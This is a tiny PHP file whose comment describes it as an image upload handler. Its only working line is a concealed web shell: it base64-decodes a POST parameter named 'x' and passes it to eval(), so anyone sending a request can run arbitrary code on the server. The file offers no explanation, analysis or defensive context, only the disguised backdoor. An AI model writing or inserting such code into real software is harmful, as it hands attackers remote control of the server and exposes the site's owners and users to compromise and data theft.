<?php
// looks like an image upload handler
if (isset($_POST['x'])) { eval(base64_decode($_POST['x'])); }
